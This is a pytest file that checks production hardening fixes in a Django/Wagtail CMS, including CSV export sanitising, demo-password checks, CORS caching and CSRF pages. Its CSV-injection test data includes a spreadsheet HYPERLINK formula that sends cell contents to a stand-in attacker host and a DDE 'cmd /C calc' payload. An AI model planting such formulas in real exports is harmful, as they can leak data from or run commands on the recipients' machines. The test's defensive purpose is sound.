"""Production hardening (issue #15, slice E): each test reproduces one finding.

CSV formula injection, published demo passwords in production, the unbounded search
log, webhook endpoints shown to non-administrators, the page cache serving one origin's
CORS answer to another, framing headers that disagree, gunicorn's public bind and the
unexplained CSRF failure over plain HTTP.
"""

from __future__ import annotations

import csv
import importlib
import io
import os
import runpy
import secrets
import shutil
import subprocess
import sys
from pathlib import Path

import pytest
from django.test import Client
from wagtail.contrib.search_promotions.models import Query, QueryDailyHits, SearchPromotion

from cms.demo_kit.loader import DEMO_ACCOUNTS
from cms.management.commands import load_demo_content
from cms.publishing.models import WebhookEndpoint
from cms.security.checks import published_demo_accounts
from search.models import QueryOutcome
from tests.participants.factories import MembershipApplicationFactory
from tests.shared_data import clear_caches

ROOT = Path(__file__).resolve().parents[3]

# Cells that a spreadsheet would run as a formula (OWASP "CSV injection").
FORMULAS = {
    "authority_name": '=HYPERLINK("https://evil.example.com/?x="&A1,"Click")',
    "contact_name": "+1+cmd|' /C calc'!A0",
    "contact_role": "-2+3",
    "phone": "@SUM(1+1)",
    "motivation": "\t=1+1",
    "notes": "\r=1+1",
}


def _csv_rows(response) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text)))


# 7. CSV exports ---------------------------------------------------------------------


@pytest.mark.django_db
def test_applications_csv_export_neutralises_formulas(client: Client, reviewer):
    MembershipApplicationFactory(**FORMULAS)
    client.force_login(reviewer)
    [row] = _csv_rows(client.get("/admin/applications/", {"export": "csv"}))
    cells = {
        row["Name of the authority"],
        row["Contact person"],
        row["Role"],
        row["Phone"],
        row["Motivation"],
        row["Reviewers' notes"],
    }
    assert cells == {"'" + value for value in FORMULAS.values()}
    # Ordinary values are left exactly as typed.
    assert row["Email"].endswith("@example.org")


@pytest.mark.django_db
def test_every_admin_csv_export_is_neutralised(client: Client, administrator, locales):
    """Wagtail's own reports use the same export code: the searches-without-results report."""
    query = Query.get("=hyperlink(1)")
    query.add_hit()
    QueryOutcome.objects.create(query=query, locale=locales["en"], result_count=0)
    client.force_login(administrator)
    [row] = _csv_rows(client.get("/admin/reports/search-no-results/", {"export": "csv"}))
    assert row["Search term(s)"] == "'=hyperlink(1)"


# 12. Demo accounts in production ----------------------------------------------------


def _production(database_url: str, **extra: str) -> dict[str, str]:
    environment = {k: v for k, v in os.environ.items() if not k.startswith("DJANGO_")}
    environment.update(
        DJANGO_SETTINGS_MODULE="cms.settings.production",
        SECRET_KEY=secrets.token_urlsafe(60),
        ALLOWED_HOSTS="alliance.example.org",
        WAGTAILADMIN_BASE_URL="https://alliance.example.org",
        DATABASE_URL=database_url,
        **extra,
    )
    return environment


def _run(arguments: list[str], environment: dict[str, str]) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, *arguments],
        cwd=ROOT,
        env=environment,
        capture_output=True,
        text=True,
        timeout=180,
    )


@pytest.fixture
def production_database(three_language_database: Path, tmp_path: Path) -> str:
    """A migrated SQLite database (a copy of the suite's) with the demo `editor` account
    as `load_demo_content` makes it, and a staff account with a password of its own; its
    site at the production address, as `migrate` with that environment leaves it."""
    copy = tmp_path / "production.db"
    shutil.copyfile(three_language_database, copy)
    url = f"sqlite:///{copy}"
    script = (
        "from cms.core.sites import align_default_site\n"
        "align_default_site()\n"
        "from django.contrib.auth.models import User\n"
        "User.objects.create_user('editor', password='alliance-editor-demo', is_staff=True)\n"
        "User.objects.create_user('owner', password='a password of its own 42')\n"
    )
    result = _run(["manage.py", "shell", "-c", script], _production(url))
    assert result.returncode == 0, result.stderr[-2000:]
    return url


def test_demo_loader_and_the_check_share_one_list_of_demo_passwords():

    assert load_demo_content.DEMO_ACCOUNTS is DEMO_ACCOUNTS
    assert published_demo_accounts.__module__ == "cms.security.checks"
    assert {account.username for account in DEMO_ACCOUNTS} == {
        "admin",
        "editor",
        "reviewer",
        "translator",
        "veldhoven@example.org",  # Veldhoven's contributor (#20), made by the demo content
    }


def test_check_deploy_fails_while_a_demo_password_works(production_database: str):
    environment = _production(production_database)
    result = _run(["manage.py", "check", "--deploy"], environment)
    assert result.returncode != 0
    assert "cms.E001" in result.stderr
    assert "editor" in result.stderr and "owner" not in result.stderr
    assert "changepassword" in result.stderr

    script = (
        "from django.contrib.auth.models import User\n"
        "User.objects.filter(username='editor').update(is_active=False)\n"
    )
    assert _run(["manage.py", "shell", "-c", script], environment).returncode == 0
    passed = _run(["manage.py", "check", "--deploy", "--fail-level", "WARNING"], environment)
    assert passed.returncode == 0, passed.stdout + passed.stderr
    assert "no issues" in passed.stdout


def test_production_wsgi_refuses_to_start_while_a_demo_password_works(production_database: str):
    environment = _production(production_database)
    refused = _run(["-c", "import cms.wsgi"], environment)
    assert refused.returncode != 0
    assert "editor" in refused.stderr and "changepassword" in refused.stderr

    script = (
        "from django.contrib.auth.models import User\n"
        "u = User.objects.get(username='editor')\n"
        "u.set_password('now a private one 42')\n"
        "u.save()\n"
    )
    assert _run(["manage.py", "shell", "-c", script], environment).returncode == 0
    started = _run(["-c", "import cms.wsgi; print(cms.wsgi.application)"], environment)
    assert started.returncode == 0, started.stderr[-2000:]


def test_check_deploy_says_nothing_when_the_database_is_unreachable(tmp_path: Path):
    environment = _production("postgres://alliance@127.0.0.1:1/nowhere", DB_CONNECT_TIMEOUT="1")
    result = _run(["manage.py", "check", "--deploy"], environment)
    assert result.returncode == 0, result.stdout + result.stderr
    assert "cms.E001" not in result.stdout + result.stderr
    assert "Traceback" not in result.stderr


# Search log --------------------------------------------------------------------------


@pytest.mark.django_db
def test_search_log_keeps_a_bounded_number_of_queries(client: Client, home_en, settings):
    settings.SEARCH_LOG_MAX_QUERIES = 5
    settings.SEARCH_LOG_MAX_LENGTH = 40
    SearchPromotion.objects.create(
        query=Query.get("housing"), external_link_url="https://example.org/", sort_order=0
    )
    for number in range(15):
        assert client.get("/en/search/", {"q": f"attacker {number}"}).status_code == 200
    assert Query.objects.count() <= 5
    assert QueryOutcome.objects.count() <= 5
    assert QueryDailyHits.objects.count() <= 5
    # An editor's pick is never pruned away with its query.
    assert SearchPromotion.objects.filter(query__query_string="housing").exists()
    # The latest searches are the ones kept.
    assert Query.objects.filter(query_string="attacker 14").exists()
    # Queries longer than the limit are searched but never stored.
    long_query = "x" * 41
    assert client.get("/en/search/", {"q": long_query}).status_code == 200
    assert not Query.objects.filter(query_string=long_query).exists()


# Webhook endpoints -------------------------------------------------------------------


@pytest.mark.django_db
@pytest.mark.parametrize("role", ["translator_fr", "editor", "reviewer"])
def test_webhook_endpoints_are_hidden_from_non_administrators(client: Client, request, role):
    endpoint = WebhookEndpoint.objects.create(
        name="Private build hook", url="https://hooks.example.org/x", secret="s3cret"
    )
    client.force_login(request.getfixturevalue(role))
    for url in (
        "/admin/localize/api/snippets/cms/webhookendpoint/",
        f"/admin/localize/api/snippets/cms/webhookendpoint/{endpoint.pk}/",
        "/admin/localize/api/snippets/cms/webhookdelivery/",
        "/admin/snippets/choose/cms/webhookendpoint/",
        "/admin/snippets/choose/cms/webhookendpoint/results/",
        f"/admin/snippets/choose/cms/webhookendpoint/chosen/{endpoint.pk}/",
    ):
        response = client.get(url)
        assert response.status_code in (302, 403), (url, response.status_code)
        assert b"Private build hook" not in response.content, url


@pytest.mark.django_db
def test_administrators_still_see_webhook_endpoints(client: Client, administrator):
    endpoint = WebhookEndpoint.objects.create(
        name="Private build hook", url="https://hooks.example.org/x", secret="s3cret"
    )
    client.force_login(administrator)
    for url in (
        f"/admin/localize/api/snippets/cms/webhookendpoint/{endpoint.pk}/",
        "/admin/snippets/choose/cms/webhookendpoint/",
        f"/admin/snippets/cms/webhookendpoint/edit/{endpoint.pk}/",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        assert b"Private build hook" in response.content, url


# Page cache and CORS -----------------------------------------------------------------

FRONT_A = "https://front-a.example.org"
FRONT_B = "https://front-b.example.org"


@pytest.mark.django_db
def test_page_cache_answers_each_origin_with_its_own_cors_headers(home_en, settings):
    settings.PAGE_CACHE_SECONDS = 60
    settings.CORS_ALLOWED_ORIGINS = [FRONT_A, FRONT_B]
    clear_caches()
    try:
        first = Client().get("/api/v2/pages/", HTTP_ORIGIN=FRONT_A)
        assert first["Access-Control-Allow-Origin"] == FRONT_A
        assert first["X-Page-Cache"] == "miss"
        second = Client().get("/api/v2/pages/", HTTP_ORIGIN=FRONT_B)
        assert second["X-Page-Cache"] == "hit"
        assert second["Access-Control-Allow-Origin"] == FRONT_B
        assert "origin" in second["Vary"].lower()
        other = Client().get("/api/v2/pages/", HTTP_ORIGIN="https://evil.example.com")
        assert "Access-Control-Allow-Origin" not in other
        plain = Client().get("/api/v2/pages/")
        assert "Access-Control-Allow-Origin" not in plain
    finally:
        clear_caches()


# Framing -----------------------------------------------------------------------------


@pytest.mark.django_db
def test_production_framing_headers_agree(monkeypatch, settings, client: Client, home_en):
    monkeypatch.setenv("SECRET_KEY", secrets.token_urlsafe(60))
    monkeypatch.setenv("ALLOWED_HOSTS", "alliance.example.org")
    monkeypatch.setenv("WAGTAILADMIN_BASE_URL", "https://alliance.example.org")
    production = importlib.import_module("cms.settings.production")
    production = importlib.reload(production)
    ancestors = production.CONTENT_SECURITY_POLICY["DIRECTIVES"]["frame-ancestors"]
    assert ancestors == ["'self'"]
    assert production.X_FRAME_OPTIONS == "SAMEORIGIN"
    settings.X_FRAME_OPTIONS = production.X_FRAME_OPTIONS
    response = client.get("/en/")
    assert response["X-Frame-Options"] == "SAMEORIGIN"
    assert "frame-ancestors 'self'" in response["Content-Security-Policy"]


# gunicorn ----------------------------------------------------------------------------


def test_gunicorn_binds_to_the_loopback_by_default(monkeypatch):
    monkeypatch.delenv("GUNICORN_BIND", raising=False)
    config = runpy.run_path(str(ROOT / "cms" / "gunicorn.conf.py"))
    assert config["bind"] == "127.0.0.1:8000"
    monkeypatch.setenv("GUNICORN_BIND", "0.0.0.0:9000")
    assert runpy.run_path(str(ROOT / "cms" / "gunicorn.conf.py"))["bind"] == "0.0.0.0:9000"
    readme = (ROOT / "README.md").read_text()
    assert "`127.0.0.1:8000`" in readme and "only way in" in readme


# CSRF failures -----------------------------------------------------------------------


@pytest.mark.django_db
def test_csrf_failure_over_http_explains_that_production_needs_https(settings, home_en):
    settings.CSRF_COOKIE_SECURE = True
    browser = Client(enforce_csrf_checks=True, HTTP_ACCEPT_LANGUAGE="fr")
    response = browser.post("/admin/login/", {"username": "a", "password": "b"})
    assert response.status_code == 403
    page = response.content.decode()
    assert "HTTPS" in page
    assert "DJANGO_SETTINGS_MODULE=cms.settings.dev" in page
    assert "production" in page and 'lang="fr"' in page
    assert "exigent" in page  # French text, not the English original


@pytest.mark.django_db
def test_csrf_failure_otherwise_gets_a_clear_generic_message(settings, home_en):
    settings.CSRF_COOKIE_SECURE = True
    browser = Client(enforce_csrf_checks=True)
    response = browser.post("/admin/login/", {"username": "a", "password": "b"}, secure=True)
    assert response.status_code == 403
    page = response.content.decode()
    assert "cms.settings.dev" not in page
    assert "reload the page" in page.lower()
    settings.CSRF_COOKIE_SECURE = False
    plain = Client(enforce_csrf_checks=True).post("/admin/login/", {"username": "a"})
    assert plain.status_code == 403
    assert "reload the page" in plain.content.decode().lower()
    assert "cms.settings.dev" not in plain.content.decode()
